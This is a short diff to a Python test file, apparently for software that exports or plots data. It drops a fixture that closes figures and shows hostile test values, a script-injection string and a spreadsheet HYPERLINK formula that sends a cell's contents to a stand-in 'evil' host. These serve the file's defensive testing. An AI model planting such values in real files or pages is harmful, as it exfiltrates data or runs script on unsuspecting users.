@@ -23,12 +23,6 @@ MATH, SCRIPT = r"$\dose{5}$", "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
 
 
-@pytest.fixture(autouse=True)
-def close_figures():
-    yield
-    plt.close("all")
-
-
 @pytest.fixture(scope="module")
 def hostile(called):  # noqa: F811
     """Called cells whose groups and samples have names that programs may run."""
